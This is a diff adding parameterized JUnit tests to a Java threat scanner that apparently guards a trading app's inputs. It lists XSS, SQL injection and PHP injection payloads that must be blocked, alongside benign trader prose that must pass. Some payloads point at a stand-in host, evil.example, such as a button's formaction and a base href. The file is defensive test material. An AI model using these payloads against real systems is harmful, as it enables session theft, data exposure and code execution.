@@ -134,9 +134,9 @@ class ThreatScannerTest {
   @Test
   @DisplayName("scores add up against the threshold; raising it lets a single warning through")
   void anomalyScoring() {
-    // alert(1) is a threat on its own since xss-script-context reads script calls; a template
-    // call is the weak signal left
-    ScanResult warning = scanner.scan("alert`1`");
+    // alert(1) and alert`1` are threats on their own since xss-script-context reads script calls;
+    // a CSS expression outside a style attribute is a weak signal left
+    ScanResult warning = scanner.scan("width: expression(1)");
     assertThat(warning.score()).isEqualTo(3);
     assertThat(warning.threat()).isFalse();
     ScanResult several = scanner.scan("<img src=x onerror=alert(document.cookie)>");
@@ -307,5 +307,154 @@ class ThreatScannerTest {
     assertThat(scanner.scan(post(attacks, "application/json")).matches())
         .extracting(ScanResult.Match::rule)
         .contains("sqli-token-shape", "cmd-shell-grammar");
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "handler on a custom tag          | <trade-card tabindex=1 onfocusin=x()>",
+        "handler on details, no space     | <details/open/ontoggle=go()>",
+        "form hijacked by formaction      | <button formaction=//evil.example/>go</button>",
+        "markup rendered from srcdoc      | <iframe srcdoc=&lt;p&gt;hi>",
+        "an XSLT instruction              | <xsl:value-of select=\"x\"/>",
+        "7-bit markup, raw                | ¼body onpageshow=go()¾",
+        "7-bit markup, URL-encoded        | %BCscript%BEgo()%BC/script%BE",
+        "an escaped lone bracket          | &#x0003C",
+        "a JavaScript-escaped bracket     | \\u003C",
+        "a doubly URL-encoded bracket     | %253C",
+        "tagged template call             | prompt`x`",
+        "optional call                    | confirm?.(2)",
+        "parenthesised sink called        | (prompt)(2)",
+        "sink handed over as a callback   | [2].forEach(confirm)",
+        "string-keyed member of this      | this['con'+'firm'](2)",
+        "timer with a variable            | setInterval(code)",
+        "dialog with a one-letter name    | confirm(x)",
+        "a tag name ended by a plus       | <base+href=//evil.example/>",
+        "DOM member only script names     | x.parentNode.removeChild(x)",
+        "JSFuck                           | (!![]+[])[+!+[]]",
+        "CSS import                       | @import url(//evil.example/x.css);",
+        "handler name alone               | onPointerLockChange",
+        "Flash trigger name alone         | FSCommand",
+        "IE behaviour import              | <?import namespace=t implementation=#default#time2>",
+        "function applied via a template  | [].map.call`${confirm}2`",
+        "sink called through call()       | prompt.call(null,2)",
+        "handler assigned in a block      | {onerror=prompt}throw 2",
+        "markup that fetches on render    | <img src=//evil.example/p.gif>",
+        "a background fetched             | <table background=//evil.example/b.png>",
+        "CSS-escaped script URL           | background:url(\\6a avascript:go())",
+        "markup hidden in CDATA           | <![CDATA[<]]>iframe",
+        "foreign namespace markup         | <a xlink:href=//evil.example>x</a>",
+        "handler name with junk after it  | <body onpageshow!#$%&()*=go()>"
+      })
+  @DisplayName("XSS classes beyond the classic tags are blocked")
+  void xssClasses(String what, String value) {
+    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "onload as a verb            | onload the position before close",
+        "formatting markup           | <b>bold</b> note",
+        "a link                      | <a href=\"https://www.kraken.com/prices\">prices</a>",
+        "comparisons                 | a < b and c > d",
+        "fractions                   | buy ¼ now and ½ on the dip, keep ¾ of the cash",
+        "a plain comparator          | <",
+        "a form-encoded comparator   | %3C",
+        "prose with a bracket        | this [link] explains the fee tiers",
+        "an abbreviation in brackets | the eval (v2) looks good",
+        "symbols on a keyboard       | [] ( ) ! + are the keys on the macro pad"
+      })
+  @DisplayName("trader prose near the new XSS classes passes")
+  void xssClassesProse(String what, String value) {
+    assertThat(scanner.scan(value).threat()).as(what).isFalse();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "case when with constants          | 7 and (case when 4=4 then 7 else 0 end)",
+        "case when over an SQL function    | x' and case when ascii(mid(user(),1,1))>64 then 1 end--",
+        "if() with a constant condition    | 2 and if(5>3,sleep(2),0)",
+        "iif() over an SQL function        | iif(len(db_name())>3,1,0)",
+        "literal closed, statement ended   | trader';",
+        "catalogue name alone              | pg_catalog.pg_roles",
+        "Access catalogue                  | msysrelationships",
+        "server variable                   | @@datadir",
+        "info function as the whole value  | current_user()",
+        "scientific notation glued         | 2.5e3union select 9",
+        "clause glued to an exponent       | 7e0having 2=2",
+        "dot-e number                      | 3.e,",
+        "JSON containment                  | '{\"r\":\"admin\"}' <@ data",
+        "JSON key-exists operator          | '[\"a\"]' ?& array['a']",
+        "JSON function over a JSON literal | jsonb_path_query('{\"a\":[1]}', '$.a')",
+        "full-text match probe             | match(body) against ('+x' in boolean mode)",
+        "UDF from a shared object          | create function shell returns string soname 'lib.so'",
+        "integer boundary                  | 4294967296",
+        "float that hangs parsers          | 2.2250738585072012e-308",
+        "characters concatenated           | chr(97)||chr(98)",
+        "one SQL-only call on constants    | elt(2,'a','b')",
+        "character set switched            | alter table t convert to character set latin1",
+        "a quoted phrase ended             | foo bar';",
+        "literal reopened on a number      | ' OR '7",
+        "literal reopened on a comparison  | 'or'2=2",
+        "niladic function compared         | 5 or 2=session_user--",
+        "statement after a closed literal  | '); truncate"
+      })
+  @DisplayName("SQL injection classes beyond the grammar after a literal are blocked")
+  void sqlClasses(String what, String value) {
+    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "case in prose                 | in case when rsi < 30 then buy 1 lot else wait",
+        "a spreadsheet formula         | if(rsi < 30, 1, 0) as the entry signal",
+        "another formula               | use iif(close > open, 1, -1) for the candle colour",
+        "a size in feet                | DRESS WITH HAT 18';",
+        "quoted words                  | he said 'buy'; I said 'wait'",
+        "numbers in words              | 1e5 union members marched past the exchange",
+        "a list of exponents           | buy 1e5, sell 2e5",
+        "match in prose                | Match(orders) against the book at the close",
+        "a function named in prose     | user() was mentioned in the docs",
+        "an ordinary large number      | 21474836",
+        "a limit in prose              | the limit is 4294967 units per day",
+        "a spreadsheet call            | concat('BTC','USDT')",
+        "an indicator call             | sma(200)",
+        "alter in prose                | alter table settings in the UI before the open",
+        "quoted keywords in prose      | 'or' 1 more lot",
+        "a numbered list               | 1) select the pair, 2) set the size"
+      })
+  @DisplayName("trader prose near the new SQL classes passes")
+  void sqlClassesProse(String what, String value) {
+    assertThat(scanner.scan(value).threat()).as(what).isFalse();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "a PHP-only function name probed   | proc_open",
+        "a superglobal named by a string   | ${\"_SERVER\"}['argv']",
+        "an include without parentheses    | include_once 'x/up.php'",
+        "a constant naming a function      | define('run', 'passthru'); run('ls');",
+        "a signed length in an object      | O:+4:\"Shop\":0:{}",
+        "a zlib stream wrapper             | zlib://archive.gz#x",
+        "a php.ini directive family        | assert.callback=run",
+        "a session directive               | session.save_path=/var/www/up"
+      })
+  @DisplayName("PHP injection classes beyond calls are blocked")
+  void phpClasses(String what, String value) {
+    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
   }
 }
